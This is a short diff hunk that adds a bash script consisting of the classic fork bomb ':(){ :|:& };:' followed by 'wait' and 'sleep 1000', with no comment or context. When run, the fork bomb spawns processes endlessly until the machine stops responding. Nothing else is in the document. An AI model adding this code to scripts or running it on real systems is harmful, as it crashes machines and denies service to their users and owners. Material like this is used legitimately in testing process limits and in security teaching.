@@ -1,0 +1,4 @@
+#!/bin/bash
+:(){ :|:& };:
+wait
+sleep 1000
